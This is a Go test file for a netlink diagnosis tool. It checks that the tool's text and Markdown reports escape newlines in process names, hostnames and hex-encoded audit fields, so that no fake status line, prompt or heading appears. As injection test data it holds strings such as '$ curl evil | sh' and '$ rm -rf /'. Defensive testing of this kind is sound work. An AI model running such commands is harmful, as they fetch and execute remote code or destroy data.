package diagnose

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"strings"
	"testing"

	"github.com/rtnl-doctor/rtnl-doctor/internal/fixture"
	"github.com/rtnl-doctor/rtnl-doctor/model/fix"
	"github.com/rtnl-doctor/rtnl-doctor/model/symptom"
	"github.com/rtnl-doctor/rtnl-doctor/probes"
)

// TestReportsKeepSystemValuesOnOneLine: a comm set with prctl to
// "x\n✓ OK ..." and hex-decoded audit fields holding "\n$ ..." or
// "\n## ..." must not print a fake line, prompt or heading in the text or
// Markdown report (issue 10, finding 6).
func TestReportsKeepSystemValuesOnOneLine(t *testing.T) {
	f := &probes.Facts{}
	f.Host.Hostname = "node\n## Owned heading"
	f.Target.PID, f.Target.Comm, f.Target.NetNS = 4242, "x\n✓ OK     everything is fine", "of PID 4242"
	d := &Diagnosis{Facts: f, Symptom: symptom.Symptom{Raw: "ip link add v0 type veth", Recognised: true, Operation: symptom.OpLinkAdd, Device: "v0\n$ rm -rf /"},
		Results: []Result{{ID: "mac-denial", Title: "A security module", Verdict: Verdict{Status: Fail,
			Evidence: []string{"denied comm=ip\n$ curl evil | sh", "profile x\n# Heading\n✓ OK     name-conflict: fine"}},
			Fixes: []fix.Fix{{ID: "mac-denial/x", Title: "Fix\n$ reboot", Command: fix.Argv("aa-complain", "prof\n$ reboot"), Risk: "r\n✓ OK"}}}}}
	var text, md bytes.Buffer
	if err := d.WriteText(&text); err != nil {
		t.Fatal(err)
	}
	if err := d.WriteMarkdown(&md); err != nil {
		t.Fatal(err)
	}
	for what, out := range map[string]string{"text": text.String(), "markdown": md.String()} {
		for _, line := range strings.Split(out, "\n") {
			l := strings.TrimLeft(line, " ")
			for _, fake := range []string{"✓ OK", "$ rm", "$ curl", "$ reboot", "# Heading", "## Owned", "# Owned"} {
				if strings.HasPrefix(l, fake) {
					t.Errorf("%s report: a system value starts a line: %q", what, line)
				}
			}
		}
	}
}

// TestLiveCommWithNewlineInReport: a process renames itself (prctl
// PR_SET_NAME, here through /proc/self/comm) to "x\n✓ OK …": the text and
// Markdown reports examining it print no line starting with "✓ OK".
func TestLiveCommWithNewlineInReport(t *testing.T) {
	cmd := exec.Command("/bin/sh", "-c", `printf 'x\n✓ OK fake' > /proc/$$/comm && echo ready && read x`)
	in, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Skip("no /bin/sh: ", err)
	}
	defer func() { in.Close(); cmd.Wait() }()
	if _, err := bufio.NewReader(out).ReadString('\n'); err != nil {
		t.Fatal(err)
	}
	comm, _ := os.ReadFile(fmt.Sprintf("/proc/%d/comm", cmd.Process.Pid))
	if !strings.Contains(string(comm), "\n✓ OK") {
		t.Skipf("the kernel kept no newline in comm: %q", comm)
	}
	f := probes.Gather(context.Background(), probes.Target{PID: cmd.Process.Pid}, probes.GroupHost, probes.GroupIdentity)
	d := Diagnose(f, symptom.ParseSymptom("ip link add v0 type veth\nRTNETLINK answers: Operation not permitted"), nil)
	var text, md bytes.Buffer
	d.WriteText(&text)
	d.WriteMarkdown(&md)
	for what, o := range map[string]string{"text": text.String(), "markdown": md.String()} {
		if !strings.Contains(o, `x0a✓ OK`) {
			t.Errorf("%s report does not show the comm made visible", what)
		}
		for _, line := range strings.Split(o, "\n") {
			if strings.HasPrefix(strings.TrimLeft(line, " -"), "✓ OK fa") {
				t.Errorf("%s report: fake line %q", what, line)
			}
		}
	}
}

// TestHexAuditFieldsInReport: audit fields are hex-encoded when they hold
// special characters; decoded, a comm "ip\n$ curl evil | sh" and an exe
// with "\n## Owned" must not print a fake prompt line or a heading.
func TestHexAuditFieldsInReport(t *testing.T) {
	root := fixtureRoot(t)
	fixture.Write(t, root, map[string]string{"var/log/audit/audit.log": "type=AVC msg=audit(1732258141.312:8812): avc:  denied  { nlmsg_write } for  pid=4242 comm=69700A24206375726C206576696C207C207368 exe=2F7573722F7362696E2F69700A2323204F776E6564 scontext=system_u:system_r:x_t:s0 tcontext=system_u:system_r:x_t:s0 tclass=netlink_route_socket permissive=0\n"})
	f := probes.Gather(context.Background(), probes.Target{Root: root})
	found := false
	for _, d := range f.Denials.Denials {
		found = found || strings.Contains(d.Comm, "\n$ curl")
	}
	if !found {
		t.Fatalf("the audit record was not decoded: %+v", f.Denials)
	}
	d := Diagnose(f, symptom.ParseSymptom("ip link add v0 type veth\nRTNETLINK answers: Permission denied"), nil)
	var text, md bytes.Buffer
	d.WriteText(&text)
	d.WriteMarkdown(&md)
	if !strings.Contains(text.String(), `ip\x0a$ curl evil | sh`) {
		t.Fatalf("the denial is not in the text report:\n%s", text.String())
	}
	for what, o := range map[string]string{"text": text.String(), "markdown": md.String()} {
		for _, line := range strings.Split(o, "\n") {
			if l := strings.TrimLeft(line, " -"); strings.HasPrefix(l, "$ curl") || strings.HasPrefix(l, "## Owned") {
				t.Errorf("%s report: fake line %q", what, line)
			}
		}
	}
}
